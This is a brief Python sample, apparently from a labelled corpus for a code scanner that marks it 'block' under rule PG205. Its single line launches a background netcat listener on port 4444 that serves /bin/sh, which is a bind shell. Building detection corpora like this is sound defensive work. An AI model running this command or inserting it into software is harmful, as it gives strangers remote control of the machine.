# pyguard-corpus: verdict=block category=exec rules=PG205
# what: starts a netcat listener that hands out a shell, in the background with os.spawnlp
import os

os.spawnlp(os.P_NOWAIT, "nc", "nc", "-lvp", "4444", "-e", "/bin/sh")
